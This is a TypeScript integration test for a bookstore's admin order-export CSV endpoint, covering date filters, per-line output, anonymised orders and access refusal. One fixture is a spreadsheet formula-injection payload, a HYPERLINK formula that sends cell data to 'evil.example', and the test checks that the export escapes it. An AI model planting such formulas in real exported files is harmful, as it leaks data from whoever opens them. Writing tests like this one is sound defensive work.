import { Timestamp } from "firebase-admin/firestore";
import { afterAll, beforeAll, describe, expect, it } from "vitest";

import { ORDER_EXPORT_COLUMNS } from "@bookstore/shared/orders/order-export.ts";
import { anonymisedOrderFields } from "@bookstore/shared/orders/order.ts";

import { adminIdToken } from "../support/admin-session.ts";
import { bearer, signUpCustomer, uniqueEmail } from "../support/auth-tokens.ts";
import {
  deleteTestOrders,
  readCsv,
  storedTestOrder,
  writeTestOrders,
} from "../support/export-orders.ts";
import { STORE_URL } from "../support/store.ts";

/** The test's orders are dated in June 1991 (UTC, the emulator's store time zone). */
const UID = `export-api-${Date.now().toString(36)}`;
const FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
const ORDERS = [
  { createdAt: new Date("1991-06-01T00:00:00Z"), status: "delivered" as const },
  {
    createdAt: new Date("1991-06-02T12:00:00Z"),
    status: "shipped" as const,
    name: FORMULA_NAME,
    items: [
      { bookId: "export-book-1", title: "A Test Book", unitPriceCents: 1250 },
      { bookId: "export-book-2", title: '@Another, "quoted"', unitPriceCents: 725 },
    ],
  },
  { createdAt: new Date("1991-06-03T23:59:59Z"), status: "shipped" as const },
  // The day after `to`, and the day before `from`: never in the June 1–3 file.
  { createdAt: new Date("1991-06-04T00:00:00Z"), status: "shipped" as const },
  { createdAt: new Date("1991-05-31T23:59:59Z"), status: "shipped" as const },
];

let token: string;
let ids: string[];
let anonymisedId: string;

beforeAll(async () => {
  token = await adminIdToken();
  ids = await writeTestOrders(ORDERS.map((order) => storedTestOrder(UID, order)));
  const [anonymised] = await writeTestOrders([
    {
      ...storedTestOrder(UID, { createdAt: new Date("1991-06-01T08:00:00Z"), status: "delivered" }),
      ...anonymisedOrderFields(Timestamp.fromDate(new Date("1991-06-10T00:00:00Z"))),
    },
  ]);
  anonymisedId = anonymised ?? "";
});

afterAll(async () => {
  await deleteTestOrders(UID);
});

async function exportOrders(query: string, idToken: string | null = token) {
  const response = await fetch(`${STORE_URL}/api/admin/orders/export?${query}`, {
    headers: idToken === null ? {} : bearer(idToken),
  });
  // Read as bytes: Response.text() would drop the byte order mark the test looks for.
  return { response, text: Buffer.from(await response.arrayBuffer()).toString("utf8") };
}

const JUNE_1_TO_3 = "from=1991-06-01&to=1991-06-03";
const COLLECTION_POINT = ORDER_EXPORT_COLUMNS.order.indexOf("Collection point");

describe("GET /api/admin/orders/export", () => {
  it("answers an admin with a CSV attachment: a byte order mark, the header, newest first", async () => {
    const { response, text } = await exportOrders(JUNE_1_TO_3);
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(response.headers.get("content-disposition")).toBe(
      "attachment; filename=orders-from-1991-06-01-to-1991-06-03.csv",
    );
    expect(response.headers.get("cache-control")).toBe("private, no-store");
    const { bom, rows } = readCsv(text);
    expect(bom).toBe(true);
    expect(rows[0]).toEqual(ORDER_EXPORT_COLUMNS.order);
    // `to` is included to its last second; the days around are not.
    expect(rows.slice(1).map((row) => row[0])).toEqual([ids[2], ids[1], anonymisedId, ids[0]]);
    expect(rows[2]?.slice(1, 4)).toEqual([
      "1991-06-02T12:00:00.000Z",
      "shipped",
      `'${FORMULA_NAME}`,
    ]);
    expect(rows[2]?.slice(-2)).toEqual(["2", "19.75"]);
    expect(rows[2]?.[5]).toBe("'+1 (541) 555-0100");
    // The anonymised order keeps its books and total, and nothing of its customer.
    expect(rows[3]?.slice(3, 11)).toEqual(["", "", "", "", "", "", "", ""]);
    expect(rows[3]?.slice(-2)).toEqual(["1", "12.50"]);
    // A delivery names no collection point.
    expect(rows.slice(1).map((row) => row[COLLECTION_POINT])).toEqual(["", "", "", ""]);
  });

  it("names an order to collect's point, its address cells empty", async () => {
    const [id] = await writeTestOrders([
      storedTestOrder(UID, {
        createdAt: new Date("1991-06-20T10:00:00Z"),
        status: "collected",
        collection: {
          pointId: "export-point",
          name: "Main Street Shop",
          address: "12 High Street, Springfield",
          hours: "Mon–Sat 9:00–18:00",
        },
      }),
    ]);
    const { text } = await exportOrders("from=1991-06-20&to=1991-06-20&status=collected");
    const { rows } = readCsv(text);
    expect(rows.map((row) => row[0])).toEqual(["Order", id]);
    expect(rows[1]?.slice(2, 4)).toEqual(["collected", "Ada Reader"]);
    // Street, City, State, Zip code and Country; then the point, the books and the total.
    expect(rows[1]?.slice(6, 11)).toEqual(["", "", "", "", ""]);
    expect(rows[1]?.slice(11)).toEqual(["Main Street Shop", "1", "12.50"]);
  });

  it("keeps to the status asked for, and writes a row per book with per=line", async () => {
    const { text } = await exportOrders(`${JUNE_1_TO_3}&status=shipped&per=line`);
    const { rows } = readCsv(text);
    const june2 = [ids[1], "1991-06-02T12:00:00.000Z", "shipped", `'${FORMULA_NAME}`];
    expect(rows).toEqual([
      [...ORDER_EXPORT_COLUMNS.line],
      [
        ids[2],
        "1991-06-03T23:59:59.000Z",
        "shipped",
        "Ada Reader",
        "export-book-1",
        "A Test Book",
        "12.50",
      ],
      [...june2, "export-book-1", "A Test Book", "12.50"],
      [...june2, "export-book-2", '\'@Another, "quoted"', "7.25"],
    ]);
  });

  it("answers a day with no orders with the header alone", async () => {
    const { response, text } = await exportOrders("from=1991-07-01&to=1991-07-01");
    expect(response.status).toBe(200);
    expect(text).toBe(`\uFEFF${ORDER_EXPORT_COLUMNS.order.join(",")}\r\n`);
  });

  it("refuses a customer, and a bad day before anything is sent", async () => {
    const customer = await signUpCustomer(uniqueEmail("orders-export"));
    const refused = await exportOrders(JUNE_1_TO_3, customer.idToken);
    expect(refused.response.status).toBe(403);
    const bad = await exportOrders("from=1991-06-31");
    expect(bad.response.status).toBe(400);
    expect(JSON.parse(bad.text)).toEqual({ message: "from: must be a date written YYYY-MM-DD" });
  });
});
